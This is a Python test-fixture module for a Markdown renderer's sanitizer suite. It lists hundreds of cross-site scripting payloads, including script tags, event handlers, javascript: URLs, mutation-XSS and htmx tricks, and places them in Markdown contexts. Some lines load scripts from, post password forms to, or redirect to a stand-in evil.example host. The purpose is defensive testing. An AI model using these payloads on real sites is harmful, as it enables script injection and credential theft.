"""Hostile inputs for the post renderer: payloads, the Markdown contexts they are placed in,
and the combinations the sanitizer suite runs.

The payloads are written for this suite, grouped by the class of attack they exercise.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable

# --- script elements ---------------------------------------------------------------------

SCRIPT_PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/any>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script type=module>import('//evil.example')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)<!--",
    "</script><script>alert(1)</script>",
    "<script><script>alert(1)</script></script>",
    "<scri\npt>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<script\tsrc=x.js>",
    "<scrİpt>alert(1)</scrİpt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

# --- event handler attributes ------------------------------------------------------------

HANDLER_TAGS: list[str] = [
    "img src=x",
    "a href=https://ok.example",
    "p",
    "body",
    "svg",
    "div",
    "input autofocus",
    "video src=x",
    "details open",
    "marquee",
    "select autofocus",
    "button autofocus",
    "h1",
    "code",
    "table background=x",
    "iframe",
]

HANDLERS: list[str] = [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "ONERROR",
]


def handler_payloads() -> list[str]:
    """Every handler on every tag, with a mix of quoting styles."""
    quotes = ["{h}=alert(1)", '{h}="alert(1)"', "{h}='alert(1)'", "{h}=`alert(1)`"]
    payloads = []
    for i, (tag, handler) in enumerate(itertools.product(HANDLER_TAGS, HANDLERS)):
        attr = quotes[i % len(quotes)].format(h=handler)
        name = tag.split()[0]
        payloads.append(f"<{tag} {attr}>x</{name}>")
    return payloads


HANDLER_SPECIALS: list[str] = [
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror&#x3D;alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x" \x0conerror=alert(1)>',
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x one\u0000rror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<a onmouseover=alert(1) href=#>hover</a>",
    "<p onclick=alert(1)>click</p>",
    "<x onclick=alert(1)>custom</x>",
    "<custom-element onfocus=alert(1) tabindex=1 autofocus>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet onload=alert(1) href=x>",
    "<object data=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

# --- URL payloads (also used inside Markdown link and image destinations) ----------------

URL_PAYLOADS: list[str] = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#9;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;&#0000097;vascript:alert(1)",
    "&#x6a&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "java\x00script:alert(1)",
    "java%0ascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://%0aalert(1)",
    "javascript://evil.example/%0Aalert(1)",
    "javascript:/*https://ok.example*/alert(1)",
    "java\u200bscript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/gif;base64,R0lGODlhAQABAAAAACw=",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "blob:https://evil.example/uuid",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example",
    "intent://x#Intent;scheme=javascript;end",
    "jar:https://evil.example/x.jar!/",
    "feed:javascript:alert(1)",
    "x-javascript:alert(1)",
    "mhtml:https://evil.example/x",
    "ms-its:x.chm::/x.htm",
    "tel:+15555550100",
    "jav ascript:alert(1)",
    "javascript&#0000058alert(1)",
    "&#x26;#106;avascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript:\\u0061lert(1)",
    "jav\\x61script:alert(1)",
]

# --- SVG, MathML and mutation-XSS style payloads -----------------------------------------

FOREIGN_AND_MXSS_PAYLOADS: list[str] = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><img src=x onerror=alert(1)></table>",
    "<table><tr><td><svg><desc><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
    "<svg><a href=javascript:alert(1)><rect width=100 height=100 /></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x />",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a>",
    "<svg><image href=x onerror=alert(1) />",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math href=javascript:alert(1)>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    '<a href="https://ok.example"><svg><a href=javascript:alert(1)>x</a></svg></a>',
    "<p><svg><p><img src=x onerror=alert(1)>",
    '<img src=x alt="</p><img src=x onerror=alert(1)>">',
    '<a title="`" onmouseover=alert(1)//">x</a>',
    '<div id="x" title="<img src=x onerror=alert(1)>">x</div>',
]

# --- htmx, style, document-level and embedding elements ----------------------------------

ATTRIBUTE_AND_ELEMENT_PAYLOADS: list[str] = [
    "<div hx-get=/admin/delete hx-trigger=load>x</div>",
    "<a hx-post=/logout hx-trigger=mouseover>x</a>",
    "<p hx-on:click=alert(1)>x</p>",
    "<p hx-on::load=alert(1)>x</p>",
    "<p hx-on-click=alert(1)>x</p>",
    "<button data-hx-post=/x data-hx-trigger=load>x</button>",
    "<div hx-vals='js:{a: alert(1)}' hx-get=/x>x</div>",
    "<div hx-headers='{\"X\": 1}' hx-put=/x>x</div>",
    "<div hx-swap-oob=true id=nav>x</div>",
    "<input hx-get=/x hx-trigger=focus autofocus>",
    "<form hx-boost=true action=/x><button>x</button></form>",
    "<div data-hx-on:click=alert(1)>x</div>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<p STYLE="x:expression(alert(1))">x</p>',
    "<img src=https://ok.example/a.png style=width:9999px>",
    "<p class=admin-banner id=main-nav>x</p>",
    "<p data-x=1 data-action=delete>x</p>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "<base href=https://evil.example/>",
    "<base target=_blank>",
    "<link rel=import href=https://evil.example/x.html>",
    "<form action=https://evil.example method=post><input name=pw type=password></form>",
    "<form><input type=submit formaction=https://evil.example></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>",
    "<object data=https://evil.example/x.swf type=application/x-shockwave-flash></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x.class>",
    "<portal src=https://evil.example></portal>",
    "<a href=https://ok.example target=_blank>opener</a>",
    "<a href=https://ok.example rel=opener>opener</a>",
    "<a href=https://ok.example ping=https://evil.example/track>x</a>",
    "<a href=https://ok.example download>x</a>",
    '<img src=https://ok.example/a.png srcset="javascript:alert(1) 1x">',
    "<img src=https://ok.example/a.png usemap=#m><map name=m><area href=javascript:alert(1)>",
    "<img src=https://ok.example/a.png ismap>",
    "<video poster=javascript:alert(1)>",
    "<input type=hidden name=csrf value=x>",
    "<button form=logout formmethod=post>x</button>",
    "<dialog open>fake login</dialog>",
    "<blink>x</blink><font color=red>x</font><center>x</center>",
    "<h1 id=content>fake heading</h1>",
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
    '<code class="language-py hidden">x</code>',
    '<td align="left" valign=top bgcolor=red>x</td>',
]

# --- broken markup, comments, CDATA, entities and backticks ------------------------------

BROKEN_MARKUP_PAYLOADS: list[str] = [
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)',
    "<a href='https://ok.example' onclick='alert(1)",
    "<div><p><span>unclosed",
    "</div></div></div></body></html>",
    "</p></li></ul></blockquote>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<?php echo 1 ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<!ENTITY x "<script>alert(1)</script>">',
    '<a href="https://ok.example">unterminated link',
    "<<img src=x onerror=alert(1)>>",
    "< img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img src=x onerror=alert(1)/>",
    '<img src="x"/onerror=alert(1)>',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&#60&#105&#109&#103 src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "```\n<script>alert(1)</script>\n```",
    "`` ` <script> ` ``",
    '<a href="`javascript:alert(1)`">x</a>',
    "\u0000<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "\x1b[31m<img src=x onerror=alert(1)>",
    "</div><div onclick=alert(1)>escape the wrapper",
    "</div></div><script>alert(1)</script>",
    '<div class="user-content"></div><img src=x onerror=alert(1)>',
]

# --- Markdown link forms (URL payloads are placed into each) -----------------------------

MARKDOWN_LINK_PAYLOADS: list[str] = [
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) )",
    '[click](javascript:alert(1) "title")',
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](javascript%3Aalert(1))",
    "[click](java\\script:alert(1))",
    "[click](<java script:alert(1)>)",
    "[click](javascript:alert%281%29)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    '[click][ref]\n\n[ref]: https://ok.example "\\"><img src=x onerror=alert(1)>"',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "<mailto:x@example.com?body=<script>>",
    '<x@example.com"onmouseover="alert(1)>',
    '<https://ok.example/"onmouseover="alert(1)>',
    "<https://ok.example/'onmouseover='alert(1)>",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example "a" onmouseover="alert(1)")',
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://ok.example (a" onmouseover="alert(1)))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "![x](javascript:alert(1))",
    "![x](<javascript:alert(1)>)",
    '![x"onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png"onerror="alert(1))',
    '![x](https://ok.example/a.png "t" onerror="alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/relative/track.png)",
    "![x](//evil.example/a.png)",
    "![x](mailto:a@example.com)",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://ok.example/a.png)](javascript:alert(1))",
    "[a [b](javascript:alert(1))](https://ok.example)",
    "[x](https://ok.example)<!-- -->(javascript:alert(1))",
    "[x]\n\n[x]: https://ok.example\n[x]: javascript:alert(1)",
    '[x](#"onmouseover="alert(1))',
    '[x](?a="><script>alert(1)</script>)',
]

# --- structure bombs (completion and bounded output, not only safety) --------------------

STRUCTURE_PAYLOADS: list[str] = [
    ">" * 300 + " deep",
    "> " * 300 + "deep",
    "- " * 300 + "deep",
    "1. " * 200 + "deep",
    "*" * 500 + "x" + "*" * 500,
    "[" * 500 + "x" + "](https://ok.example)" * 500,
    "![" * 300 + "x" + "](javascript:alert(1))" * 300,
    "<" * 500 + "script>alert(1)",
    "`" * 300 + "<script>" + "`" * 299,
    "|" * 200 + "\n" + "|-" * 100 + "|\n" + "|<img src=x onerror=alert(1)>" * 100,
    "\n".join(["> " * i + "<script>" for i in range(40)]),
    "\n".join(["  " * i + "- <img src=x onerror=alert(1)>" for i in range(40)]),
]


def general_payloads() -> list[str]:
    """Every payload, including the full tag x handler grid."""
    return [*handler_payloads(), *context_payloads()]


def context_payloads() -> list[str]:
    """Payloads placed into every Markdown context (the handler grid uses fewer contexts)."""
    return [
        *SCRIPT_PAYLOADS,
        *HANDLER_SPECIALS,
        *FOREIGN_AND_MXSS_PAYLOADS,
        *ATTRIBUTE_AND_ELEMENT_PAYLOADS,
        *BROKEN_MARKUP_PAYLOADS,
        *MARKDOWN_LINK_PAYLOADS,
    ]


# --- contexts: where a payload lands inside a post ---------------------------------------

Context = Callable[[str], str]

CONTEXTS: dict[str, Context] = {
    "raw": lambda p: p,
    "inline": lambda p: f"Before {p} after.",
    "link_url": lambda p: f"[link]({p})",
    "link_url_angle": lambda p: f"[link](<{p}>)",
    "image_url": lambda p: f"![image]({p})",
    "link_title": lambda p: f'[link](https://ok.example "{p}")',
    "link_text": lambda p: f"[{p}](https://ok.example)",
    "image_alt": lambda p: f"![{p}](https://ok.example/a.png)",
    "reference": lambda p: f"[link][r] and ![img][r]\n\n[r]: {p}",
    "autolink": lambda p: f"<{p}>",
    "code_span": lambda p: f"`{p}`",
    "fenced_code": lambda p: f"```\n{p}\n```",
    "fence_info": lambda p: f"```{p}\nbody\n```",
    "table_cell": lambda p: f"| a | b |\n|:--|--:|\n| {p} | x |",
    "heading": lambda p: f"# {p}",
    "setext_heading": lambda p: f"{p}\n===",
    "blockquote": lambda p: f"> {p}",
    "list_item": lambda p: f"- {p}\n- second",
    "emphasis": lambda p: f"**{p}** and _{p}_ and ~~{p}~~",
    "html_block": lambda p: f"<div>\n{p}\n</div>",
}

# Handler payloads differ only inside a tag, so a few contexts cover what the grid can reach.
HANDLER_CONTEXTS: list[str] = ["raw", "inline", "link_text", "table_cell", "heading", "html_block"]

URL_CONTEXTS: dict[str, Context] = {
    "url_link": lambda u: f"[link]({u})",
    "url_link_angle": lambda u: f"[link](<{u}>)",
    "url_link_title": lambda u: f'[link]({u} "title")',
    "url_image": lambda u: f"![image]({u})",
    "url_reference": lambda u: f"[link][r]\n\n[r]: {u}",
    "url_reference_image": lambda u: f"![image][r]\n\n[r]: <{u}>",
    "url_autolink": lambda u: f"<{u}>",
    "url_linked_image": lambda u: f"[![image]({u})]({u})",
    "url_raw_anchor": lambda u: f'<a href="{u}">x</a>',
    "url_raw_image": lambda u: f'<img src="{u}">',
    "url_bare": lambda u: f"see {u} now",
}


def markdown_cases() -> list[tuple[str, str]]:
    """(case id, Markdown source) pairs for the renderer."""
    cases = []
    for context_name, context in CONTEXTS.items():
        for i, payload in enumerate(context_payloads()):
            cases.append((f"{context_name}-{i:03d}", context(payload)))
    for context_name in HANDLER_CONTEXTS:
        context = CONTEXTS[context_name]
        for i, payload in enumerate(handler_payloads()):
            cases.append((f"{context_name}-handler-{i:03d}", context(payload)))
    for context_name, context in URL_CONTEXTS.items():
        for i, url in enumerate(URL_PAYLOADS):
            cases.append((f"{context_name}-{i:03d}", context(url)))
    for i, payload in enumerate(STRUCTURE_PAYLOADS):
        cases.append((f"structure-{i:03d}", payload))
    return cases


def raw_html_cases() -> list[tuple[str, str]]:
    """(case id, HTML) pairs fed straight to the sanitizer, bypassing Markdown escaping."""
    cases = [(f"html-{i:03d}", payload) for i, payload in enumerate(general_payloads())]
    for i, url in enumerate(URL_PAYLOADS):
        cases.append((f"html_href-{i:03d}", f'<a href="{url}">x</a>'))
        cases.append((f"html_href_unquoted-{i:03d}", f"<a href={url}>x</a>"))
        cases.append((f"html_src-{i:03d}", f'<img src="{url}" alt="x">'))
    return cases
